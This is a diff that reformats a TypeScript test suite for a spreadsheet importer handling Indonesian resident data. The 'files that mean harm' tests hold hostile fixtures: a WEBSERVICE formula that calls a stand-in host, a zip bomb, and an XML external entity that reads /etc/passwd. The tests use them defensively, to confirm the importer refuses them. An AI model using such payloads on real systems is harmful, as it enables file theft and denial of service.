@@ -10,7 +10,10 @@ import { SheetError } from './sheet-error.ts'
 const bytes = (text: string, encoding: BufferEncoding = 'utf8') => new Uint8Array(Buffer.from(text, encoding))
 
 async function refusal(work: Promise<unknown>): Promise<SheetError> {
-  const error = await work.then(() => null, (e: unknown) => e)
+  const error = await work.then(
+    () => null,
+    (e: unknown) => e,
+  )
   if (!(error instanceof SheetError)) throw new Error('It was not refused as a sheet.', { cause: error })
   for (const locale of LOCALES) expect(say(error.words, locale, error.values)).not.toMatch(/\{|undefined/)
   return error
@@ -49,14 +52,23 @@ describe('a workbook typed by hand', () => {
   })
 
   test('a NIK typed as a number is marked, because Excel has already invented its last digit', async () => {
-    const sheet = await readSheet(await book([['nama', 'nik', 'kk'], ['Budi', 9901012209070010, 990101220907]]), 'warga.xlsx')
+    const sheet = await readSheet(
+      await book([
+        ['nama', 'nik', 'kk'],
+        ['Budi', 9901012209070010, 990101220907],
+      ]),
+      'warga.xlsx',
+    )
     expect(sheet.rows[0]).toEqual({ row: 2, cells: ['Budi', '9901012209070010', '990101220907'], rounded: [1] })
   })
 
   test('starts at the first visible sheet and row with content; blank rows and columns do not count', async () => {
     const file = await book(
       [[null], [null], [' nama\nlengkap ', 'nik', null], [null, ' '], ['Sari', null, null], ['', '', 'catatan di luar']],
-      [{ name: 'Rahasia', hidden: true, rows: [['x'], ['y']] }, { name: 'Kosong', rows: [] }],
+      [
+        { name: 'Rahasia', hidden: true, rows: [['x'], ['y']] },
+        { name: 'Kosong', rows: [] },
+      ],
     )
     const found = { name: 'Warga', headings: ['nama lengkap', 'nik'], rows: [{ row: 5, cells: ['Sari', ''] }] }
     expect(await readSheet(file, 'x.xlsx')).toEqual(found)
@@ -67,7 +79,10 @@ describe('a workbook typed by hand', () => {
       sheets: [
         {
           name: 'Warga',
-          rows: [['nama', 'umur'], ['Sari', null]],
+          rows: [
+            ['nama', 'umur'],
+            ['Sari', null],
+          ],
           cells: new Map([['1,1', { value: null, formula: 'WEBSERVICE("http://jahat.example")', formulaResult: 41 }]]),
         },
       ],
@@ -76,7 +91,12 @@ describe('a workbook typed by hand', () => {
   })
 
   test('the limits hold, and say where', async () => {
-    const people = await book([['nama', 'nik'], ['A', '1'], ['B', '2'], ['C', '3']])
+    const people = await book([
+      ['nama', 'nik'],
+      ['A', '1'],
+      ['B', '2'],
+      ['C', '3'],
+    ])
     expect(await refusal(readSheet(people, 'x.xlsx', { rows: 2 }))).toMatchObject({ code: 'sheet_too_many_rows', values: { limit: 2 } })
     expect((await readSheet(people, 'x.xlsx', { rows: 3 })).rows).toHaveLength(3)
     expect(await refusal(readSheet(people, 'x.xlsx', { columns: 1 }))).toMatchObject({ code: 'sheet_too_many_columns' })
@@ -202,7 +222,12 @@ describe('files that mean harm, or are something else', () => {
 
   test('a bomb that tells its size in another place is not looked for there', async () => {
     const spaces = Buffer.alloc(60 * 1024 * 1024, ' ')
-    const elsewhere = Buffer.from(zip([{ name: '[Content_Types].xml', data: spaces }, { name: 'xl/workbook.xml', data: xml('') }]))
+    const elsewhere = Buffer.from(
+      zip([
+        { name: '[Content_Types].xml', data: spaces },
+        { name: 'xl/workbook.xml', data: xml('') },
+      ]),
+    )
     const entry = elsewhere.indexOf('PK\x01\x02', undefined, 'latin1')
     elsewhere.writeUInt16LE(8, entry + 8) // sizes are told beside the data
     elsewhere.writeUInt32LE(0, entry + 20)
@@ -228,7 +253,10 @@ describe('files that mean harm, or are something else', () => {
       Buffer.from('<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b SYSTEM "file:///etc/passwd">]>'),
       xml('<row r="1"><c r="A1" t="str"><v>&a;&b;</v></c></row>'),
     ])
-    const answer = await readSheet(around({ data: laughs }), 'x.xlsx').then((s) => s.headings.join(), (e: SheetError) => e.code)
+    const answer = await readSheet(around({ data: laughs }), 'x.xlsx').then(
+      (s) => s.headings.join(),
+      (e: SheetError) => e.code,
+    )
     expect(answer).not.toMatch(/ha|root:/)
   })
 
